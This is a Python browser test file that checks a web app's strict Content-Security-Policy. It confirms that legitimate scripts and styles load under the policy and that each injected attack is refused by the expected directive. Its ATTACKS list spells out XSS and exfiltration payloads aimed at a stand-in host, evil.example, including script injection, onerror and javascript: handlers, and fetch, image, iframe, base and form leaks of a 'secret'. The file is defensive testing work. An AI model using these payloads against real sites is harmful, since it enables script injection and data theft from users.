"""The strict Content-Security-Policy in a real browser: our pages live under it, and what was slipped into them does not run."""

from __future__ import annotations

import json

import pytest

from .conftest import AppFolder, Tab, chain, send_rows

pytestmark = pytest.mark.browser

MODES = pytest.mark.parametrize("mode", ["development", "production"])
LISTEN = """
    window.violations = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        window.violations.push(`${effectiveDirective} ${blockedURI}`));
"""
PAGE = """\
'use client';
import { lazy, Suspense, useState } from 'react';
import { readStreamableValue } from '@ai-sdk/rsc';
import { ask } from './actions';
import './page.css';

const Late = lazy(() => import('./late'));

export default function Home() {
    const [text, setText] = useState('');
    const run = async () => {
        let all = '';
        for await (const delta of readStreamableValue(await ask([]))) setText(all += delta);
    };
    return <main style={{ paddingLeft: 7 }}>
        <button onClick={run}>Ask</button><p id="answer">{text}</p>
        <div dangerouslySetInnerHTML={{ __html: '<b style="color: rgb(1, 2, 3)">marked</b>' }} />
        <Suspense fallback="…"><Late /></Suspense>
    </main>;
}
"""
LATE = "import './late.css';\nexport default function Late() { return <p id='late'>late</p>; }\n"


@pytest.fixture
def shop(app: AppFolder) -> AppFolder:
    app.write("page.tsx", PAGE)
    app.write("page.css", "#answer { color: rgb(4, 5, 6) }")
    app.write("late.tsx", LATE)
    app.write("late.css", "#late { color: rgb(7, 8, 9) }")
    app.write("actions.py", "# read by Python alone\n")
    app.declare("ask")
    return app


async def answer(_call, _body, send) -> None:
    first, *rest = chain(["It ", "works"])
    await send_rows(send, "0:" + json.dumps(json.loads(first[2:])["newMessage"]), *rest)


def color(tab: Tab, selector: str) -> str:
    return tab.page.eval_on_selector(selector, "element => getComputedStyle(element).color")


@MODES
@pytest.mark.parametrize("prefix", ["", "/x/y"])
def test_pages_scripts_styles_and_late_chunks_live_under_it(shop, serve, tab: Tab, mode, prefix):
    tab.page.add_init_script(LISTEN)
    with serve(mode, answer, prefix) as server:
        response = tab.page.goto(server.url)
        tab.page.get_by_role("button", name="Ask").click()
        tab.page.get_by_text("It works").wait_for()
        tab.page.wait_for_selector("#late")
        colors = [color(tab, each) for each in ("b", "#answer", "#late")]
        violations = tab.page.evaluate("violations")
    assert "script-src 'nonce-" in response.headers["content-security-policy"]
    assert colors == ["rgb(1, 2, 3)", "rgb(4, 5, 6)", "rgb(7, 8, 9)"]
    assert violations == []
    assert tab.console == []


HTML = "document.body.insertAdjacentHTML('beforeend', `{}`)"
SCRIPT = "document.body.append(Object.assign(document.createElement('script'), {}))"
# what is tried, and the directive that refuses it
ATTACKS = [
    (SCRIPT.format("{ textContent: 'pwned = 1' }"), "script-src-elem"),
    (SCRIPT.format("{ src: `${location.origin}/assets/x.js` }"), "script-src-elem"),
    (SCRIPT.format("{ src: 'https://evil.example/x.js' }"), "script-src-elem"),
    (HTML.format('<img src="data:," onerror="pwned = 1">'), "script-src-attr"),
    (HTML.format('<a id="bad" href="javascript:pwned = 1">x</a>') + "; bad.click()", "script-src-elem"),
    (HTML.format("<style>button { color: red }</style>"), "style-src-elem"),
    (HTML.format('<img src="https://evil.example/?secret">'), "img-src"),
    ("void fetch('https://evil.example/?secret').catch(() => {})", "connect-src"),
    (HTML.format('<iframe src="https://evil.example/"></iframe>'), "frame-src"),
    (HTML.format('<base href="https://evil.example/">'), "base-uri"),
    (
        HTML.format('<form id="form" action="https://evil.example/" method="post"></form>')
        + "; form.submit()",
        "form-action",
    ),
]


def test_what_was_slipped_into_a_page_neither_runs_nor_leaves(shop, serve, tab: Tab):
    tab.page.add_init_script(LISTEN)
    with serve("production", answer) as server:
        tab.page.goto(server.url)
        tab.page.wait_for_selector("#late")
        for number, (attack, _) in enumerate(ATTACKS, 1):
            tab.page.evaluate(attack)
            tab.page.wait_for_function("count => violations.length >= count", arg=number)
        assert tab.page.evaluate("typeof pwned") == "undefined"
        refused = [each.split()[0] for each in tab.page.evaluate("violations")]
    assert refused == [directive for _, directive in ATTACKS]


def test_a_page_that_was_not_made_by_us_has_no_nonce_to_find(shop, serve, tab: Tab):
    with serve("production", answer) as server:
        tab.page.goto(server.url)
        tab.page.wait_for_selector("#late")
        hidden = tab.page.evaluate(
            "[...document.querySelectorAll('[nonce]')].map(e => e.getAttribute('nonce'))"
        )
    assert set(hidden) == {""}  # selectors and markup cannot read it; scripts that run already can
